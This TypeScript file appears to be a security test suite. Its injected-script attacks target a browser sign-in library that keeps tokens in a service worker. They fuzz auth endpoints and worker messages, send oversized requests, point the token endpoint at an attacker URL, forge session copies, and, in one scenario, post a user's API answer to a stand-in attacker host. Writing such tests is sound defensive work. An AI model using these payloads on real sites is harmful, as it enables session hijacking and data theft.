import { ada } from "../../../dev-provider/src/users.js";
import { attack } from "../attack.js";

export const askEveryEndpoint = attack({
  name: "sends every kind of request to every endpoint",
  threat: "single-execution theft",
  target: "strongroom",
  async payload(it) {
    const names = [
      "session",
      "events",
      "refresh",
      "keep",
      "login",
      "callback",
      "token",
      "tokens",
      "config",
      "",
    ];
    const suffixes = [
      "",
      "/",
      "?",
      "?debug=1",
      "?token=access&format=json",
      "?key=AAAA",
      "#x",
      ".json",
      "%00",
      "?code=x&state=y",
    ];
    const asks: [string, RequestInit][] = [];
    for (const name of [...names, "../auth/session", "./session", "SESSION", "session;x", "keep/.."]) {
      for (const suffix of suffixes) asks.push([`/auth/${name}${suffix}`, {}]);
      for (const method of ["POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD"]) {
        asks.push([
          `/auth/${name}`,
          { method, ...(method === "HEAD" ? {} : { body: "grant_type=refresh_token" }) },
        ]);
      }
      for (const headers of [
        { accept: "application/jwt" },
        { authorization: "Bearer x" },
        { "content-type": "application/vnd.strongroom.frames" },
        { "service-worker": "script" },
        { "x-http-method-override": "POST" },
        { range: "bytes=0-" },
      ] as Record<string, string>[]) {
        asks.push([`/auth/${name}`, { headers }]);
      }
    }
    const ask = async ([url, init]: [string, RequestInit]) => {
      try {
        const response = await fetch(url, { ...init, signal: AbortSignal.timeout(1_500) });
        it.steal(response.url, [...response.headers]);
        // A stream does not end, so read only its first chunk.
        const reader = response.body?.getReader();
        const chunk = await reader?.read();
        it.steal(new TextDecoder("latin1").decode(chunk?.value));
        await reader?.cancel();
      } catch (error) {
        it.steal(String(error));
      }
    };
    for (let start = 0; start < asks.length; start += 20)
      await Promise.all(asks.slice(start, start + 20).map(ask));
    await it.pause(100);
  },
});

export const askTheWorkerByMessages = attack({
  name: "sends the worker every kind of message",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    const words = [
      "token",
      "tokens",
      "getToken",
      "get-token",
      "access_token",
      "session",
      "config",
      "init",
      "state",
    ];
    const messages: unknown[] = [null, undefined, 0, "", [], {}, new ArrayBuffer(8), "*"];
    for (const word of [...words, "hello", "keep", "refresh", "debug", "dump", "export", "get", "load"]) {
      messages.push(word, [word], { [word]: true }, `strongroom:${word}`);
      for (const key of ["type", "action", "cmd", "command", "method", "kind", "op", "name"]) {
        messages.push({ [key]: word }, { [key]: word.toUpperCase(), data: {}, payload: {}, params: {} });
      }
    }
    const registrations = (await navigator.serviceWorker?.getRegistrations()) ?? [];
    const workers = registrations.flatMap(({ active, waiting, installing }) => [active, waiting, installing]);
    navigator.serviceWorker?.addEventListener("message", ({ data }) => it.steal(data));
    for (const worker of new Set([...workers, navigator.serviceWorker?.controller])) {
      for (const message of messages) {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => it.steal(data);
        try {
          worker?.postMessage(message, [port2]);
        } catch {
          // The structured clone algorithm refuses some messages.
        }
      }
    }
    for (const message of messages) window.postMessage(message, location.origin);
    await it.pause(500);
  },
});

export const fuzzEndpoints = attack({
  name: "fuzzes endpoints and messages",
  threat: "single-execution theft",
  target: "strongroom",
  alone: true,
  async payload(it) {
    // Deterministic, so that a failure can be reproduced.
    let seed = 20_261_122;
    const below = (limit: number) => {
      seed = (Math.imul(seed, 1_664_525) + 1_013_904_223) >>> 0;
      return seed % limit;
    };
    const pieces = [
      "/",
      "..",
      "%2e",
      "auth",
      "session",
      "keep",
      "events",
      "?",
      "&",
      "=",
      "key",
      "code",
      "state",
      "error",
    ];
    const odd = [
      "\u0000",
      "%ff",
      "𝔰",
      "\\",
      ";",
      "__proto__",
      "constructor",
      "A".repeat(3_000),
      "-1",
      "null",
      "[]",
      "{}",
    ];
    const word = () => {
      const from = below(3) === 0 ? odd : pieces;
      return from[below(from.length)] ?? "";
    };
    const text = (length: number) => Array.from({ length }, word).join("");
    const tree = (depth: number): unknown => {
      switch (below(depth > 0 ? 6 : 3)) {
        case 0:
          return below(1_000) - 500;
        case 1:
          return text(3);
        case 2:
          return null;
        case 3:
          return Array.from({ length: below(5) }, () => tree(depth - 1));
        default:
          return Object.fromEntries(Array.from({ length: below(5) }, () => [word(), tree(depth - 1)]));
      }
    };
    const methods = ["GET", "POST", "PUT", "DELETE"];
    for (let round = 0; round < 12; round++) {
      await Promise.all(
        Array.from({ length: 20 }, async () => {
          const method = methods[below(methods.length)] ?? "GET";
          try {
            const response = await fetch(`/auth/${text(1 + below(6))}`, {
              method,
              ...(method === "GET" ? {} : { body: JSON.stringify(tree(3)) }),
              signal: AbortSignal.timeout(1_000),
            });
            it.steal([...response.headers]);
            const reader = response.body?.getReader();
            it.steal(new TextDecoder("latin1").decode((await reader?.read())?.value));
            await reader?.cancel();
          } catch (error) {
            it.steal(String(error));
          }
        }),
      );
      for (let message = 0; message < 20; message++) {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => it.steal(data);
        navigator.serviceWorker.controller?.postMessage(tree(4), [port2]);
      }
    }
    await it.pause(300);
  },
});

export const oversizedRequests = attack({
  name: "sends requests that are too large for the worker",
  threat: "single-execution theft",
  target: "strongroom",
  alone: true,
  async payload(it) {
    addEventListener("error", ({ message, error }) => it.steal(message, String(error?.stack)));
    const large = "x".repeat(1_000_000);
    const ask = async (url: string, init: RequestInit = {}) => {
      const response = await fetch(url, { ...init, signal: AbortSignal.timeout(1_500) }).catch(
        (error: unknown) => void it.steal(String(error)),
      );
      it.steal([...(response?.headers ?? [])], (await response?.text().catch(String))?.slice(0, 100_000));
    };
    await ask(`/auth/session?${large}`);
    await ask(`/auth/${large}`);
    await ask("/auth/keep", { method: "POST", body: large.repeat(8) });
    await ask("/auth/refresh", { method: "POST", body: large });
    await ask("/auth/session", { headers: { "x-large": large.slice(0, 60_000) } });
    await ask(`${it.apiUrl}me?${large.slice(0, 100_000)}`);
    await ask(`${it.apiUrl}me`, { headers: { "content-type": large.slice(0, 8_000) } });
    navigator.serviceWorker.controller?.postMessage(large.repeat(8));
    await Promise.all(Array.from({ length: 100 }, () => ask("/auth/session")));
    await ask(`${it.apiUrl}me`);
  },
});

export const reconfigureByMessage = attack({
  name: "reconfigures the worker by message and request",
  threat: "single-execution theft",
  target: "strongroom",
  async payload(it) {
    const api = [{ url: `${it.attackerUrl}/` }, { url: `${it.siblingUrl}/` }, { url: it.apiUrl }];
    const provider = {
      tokenEndpoint: `${it.attackerUrl}/token`,
      revocationEndpoint: `${it.attackerUrl}/revoke`,
    };
    const config = { api, provider, sessionClaims: ["access_token", "refresh_token", "jti"], basePath: "/" };
    const worker = navigator.serviceWorker.controller;
    for (const type of [
      "init",
      "start",
      "config",
      "configure",
      "setConfig",
      "update",
      "strongroom:config",
      "reset",
    ]) {
      for (const message of [
        { type, config },
        { type, ...config },
        { type, payload: config },
        { [type]: config },
        [type, config],
      ]) {
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data }) => it.steal(data);
        worker?.postMessage(message, [port2]);
      }
      await fetch(`/auth/${type}?${new URLSearchParams({ config: JSON.stringify(config) })}`).catch(() => {});
      await fetch(`/auth/${type}`, { method: "POST", body: JSON.stringify(config) }).catch(() => {});
    }
    await it.pause(200);
    for (const home of [it.attackerUrl, it.siblingUrl]) await fetch(`${home}/configured`).catch(() => {});
    const session = await fetch("/auth/refresh", { method: "POST" });
    it.steal(await session.text());
  },
});

export const forgedCopy = attack({
  name: "posts forged session copies to the worker",
  threat: "manipulating the sign-in",
  target: "strongroom",
  async payload(it) {
    const own = await crypto.subtle.generateKey({ name: "ECDH", namedCurve: "P-256" }, true, ["deriveKey"]);
    const raw = new Uint8Array(await crypto.subtle.exportKey("raw", own.publicKey));
    const copy = new TextEncoder().encode((window as { forgedCopy?: string }).forgedCopy);
    const bodies: BodyInit[] = [
      copy,
      new Uint8Array([...raw, ...copy]),
      raw,
      new Uint8Array(77),
      "",
      JSON.stringify({ copy }),
    ];
    for (const body of bodies) {
      for (const path of [
        "/auth/keep",
        "/auth/keep?key=x",
        "/auth/session",
        "/auth/refresh",
        "/auth/restore",
      ]) {
        const response = await fetch(path, { method: "POST", body }).catch(() => undefined);
        it.steal(await response?.text());
      }
    }
  },
  async play(stage) {
    const { access_token, refresh_token, id_token } = await stage.tokensOfTheAttacker();
    const copy = JSON.stringify({
      format: 1,
      id: "forged",
      serial: 999_999,
      access: `Bearer ${access_token}`,
      idToken: `Bearer ${id_token}`,
      refresh: refresh_token,
      subject: "forged",
      user: { sub: "forged" },
      lifetime: 3_600_000,
      age: 0,
    });
    await stage.openSignedIn();
    await stage.browser.evaluate((copy) => {
      (window as { forgedCopy?: string }).forgedCopy = copy;
    }, copy);
    await stage.inject();
  },
  gain: (stage) => stage.isTheAttackersSession(),
});

export const proxyRequests = attack({
  name: "calls the API as the app does",
  threat: "proxying through the user's browser",
  target: "any",
  alone: true,
  async payload(it) {
    // Use the app's own button.
    document.getElementById("call")?.click();
    let answer = "";
    for (let tries = 0; tries < 250 && !answer; tries++) {
      await it.pause(20);
      answer = document.querySelector("output")?.value ?? "";
    }
    const response = await fetch(`${it.attackerUrl}/answer`, {
      method: "POST",
      mode: "no-cors",
      body: answer,
    }).catch(() => undefined);
    if (response) return;
    location.href = `${it.attackerUrl}/answer?${new URLSearchParams({ answer })}`;
    await it.pause(500);
  },
  async gain({ lab, attackerPath }) {
    return lab.attacker.takeBodies(`${attackerPath}/answer`).some((body) => body.includes(ada.sub))
      ? "the API's answer to the user"
      : undefined;
  },
});

export const afterSignOut = attack({
  name: "sends requests after the user has signed out",
  threat: "persistent theft",
  target: "strongroom",
  async payload(it) {
    for (const url of [`${it.apiUrl}me`, `${it.ownApiUrl}me`, `${it.apiUrl}echo`]) {
      const response = await fetch(url).catch(() => undefined);
      it.steal(await response?.text());
    }
    const renewed = await fetch("/auth/refresh", { method: "POST" });
    it.steal(await renewed.text());
    for (const url of [`${it.apiUrl}me`, `${it.apiUrl}echo`]) it.steal(await (await fetch(url)).text());
  },
  async play(stage) {
    await stage.openSignedIn();
    await stage.signOut();
    stage.markRequests();
    await stage.inject();
  },
  gain: async (stage) => stage.requestAsTheUser(),
});
